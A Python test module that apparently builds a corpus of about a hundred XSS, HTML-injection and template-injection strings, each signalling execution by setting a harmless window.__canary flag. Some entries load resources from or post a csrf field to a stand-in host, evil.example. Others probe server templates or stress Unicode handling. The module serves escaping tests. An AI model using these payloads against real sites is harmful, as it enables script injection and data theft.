"""A hundred texts that would do something if a page took them for more than text; each that runs sets `window.__canary`."""

_RUN = "window.__canary=1"
_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onpointerenter",
    "ontoggle",
    "onbeforetoggle",
    "onwheel",
    "oninput",
    "onscroll",
    "oncut",
    "onpaste",
    "oncontentvisibilityautostatechange",
    "onsecuritypolicyviolation",
    "onpageshow",
]

_TAGS = (
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script src=data:text/javascript,{_RUN}></script>", f"<script type=module>{_RUN}</script>",
    f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>", f"</style><script>{_RUN}</script>", f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>", f"<iframe src=\"javascript:parent.{_RUN}\"></iframe>", "<iframe src=//evil.example></iframe>",
    f"<object data=\"javascript:{_RUN}\"></object>", f"<embed src=\"javascript:{_RUN}\">", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{_RUN}\">", f"<form action=\"javascript:{_RUN}\"><button autofocus>go</button></form>",
    "<form action=//evil.example><input name=csrf>", f"<input autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}>x</details>", f"<dialog open onclose={_RUN}>x</dialog>",
    f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}>", f"<marquee onstart={_RUN}>x</marquee>", f"<body onload={_RUN}>", "<style>*{display:none}</style>",
    "<plaintext>", "<xmp>", "<template shadowrootmode=open><slot></slot></template>", f"<isindex type=image src=1 onerror={_RUN}>", f"<x contenteditable onblur={_RUN} autofocus>x</x>",
)  # fmt: skip
_SVG = (
    f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=\"javascript:{_RUN}\"><text>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{_RUN}</script></svg>#x\"/></svg>",
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>", f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>", f"<svg><set attributeName=onmouseover to={_RUN}>",
)  # fmt: skip
_ATTRIBUTES = (
    *(f"\" {event}={_RUN} x=\"" for event in _EVENTS[:12]), *(f"' {event}={_RUN} x='" for event in _EVENTS[12:]), f"\"><img src=x onerror={_RUN}>", f"'><img src=x onerror={_RUN}>",
    f"`><img src=x onerror={_RUN}>", f"x\" style=\"position:fixed;inset:0\" onmouseover=\"{_RUN}", "\" hx-get=\"//evil.example\" hx-trigger=\"load", f"\" hx-on:load=\"{_RUN}",
    "\" data-live data-open=\"//evil.example", "\"></form><form action=//evil.example>",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f" javascript:{_RUN}", f"data:text/html,<script>opener.{_RUN}</script>", f"vbscript:{_RUN}",
    "//evil.example/x", "\\\\evil.example\\x", "https://evil.example/?q=<b>", "/\\evil.example",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% for x in range(9) %}x{% endfor %}",
    "{{config}}",
    "{{''.__class__.__mro__}}",
    "{{constructor.constructor('window.__canary=1')()}}",
)
_ENTITIES = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"&amp;lt;img src=x onerror={_RUN}&amp;gt;", f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E", f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
)  # fmt: skip
_LETTERS = (
    "‮gnorw eht yaw‬ \u2066isolated\u2069", "\u202dleft\u202e right \u200f\u200e", "Z̶̡͔̈́a̷̢̛l̴̨̛g̸̨̛o̷̡̕" * 8, "W" * 180, "日本語" * 50, "🏴‍☠️👩‍👩‍👧‍👦" * 6, "=HYPERLINK(\"//evil.example\",\"x\")", "a\u0000b".replace("\u0000", "\ufffd"),
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (*_TAGS, *_SVG, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_ENTITIES, *_LETTERS)
